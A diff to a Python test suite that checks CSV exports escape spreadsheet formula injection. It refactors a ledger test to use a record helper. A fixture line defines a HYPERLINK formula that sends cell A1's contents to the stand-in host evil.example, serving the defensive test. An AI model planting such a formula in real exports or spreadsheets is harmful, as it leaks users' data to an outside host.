@@ -13,12 +13,13 @@ from core.costs import cost_calls, ledger_csv
 from core.errors import CallProblem
 from core.events import RecordedEvent
 from core.events.exports import events_csv
-from core.ledger import CallRecord, SessionLedger
+from core.ledger import SessionLedger
 from core.measure import runs_to_csv
 from core.pricing import ModelPrice, PriceTable, load_price_table
 from core.streaming import StreamRecord
 from core.trace import CallTrace, Outcome
 from core.untrusted import code_span, csv_cell, csv_text, escape_markdown
+from tests.ledger_records import ledger_record
 
 EVIL = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
 STARTS = ["=1+1", "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
@@ -61,7 +62,7 @@ def test_every_csv_export_neutralises_a_model_answer_or_name_that_is_a_formula()
     assert "'" + EVIL in _cells(exported) and "'-2+3" in _cells(exported)
     _no_live_formula(exported)
     # the priced ledger and the plain ledger: the model name comes from the endpoint
-    record = CallRecord("r", "batch", "=provider", EVIL, 1.0, 0.5, None, "stop", error="+err")
+    record = ledger_record("r", "batch", "=provider", EVIL, 1.0, 0.5, None, "stop", error="+err")
     _no_live_formula(ledger_csv(cost_calls([record], load_price_table()), load_price_table()))
     ledger = SessionLedger()
     ledger.add(record)
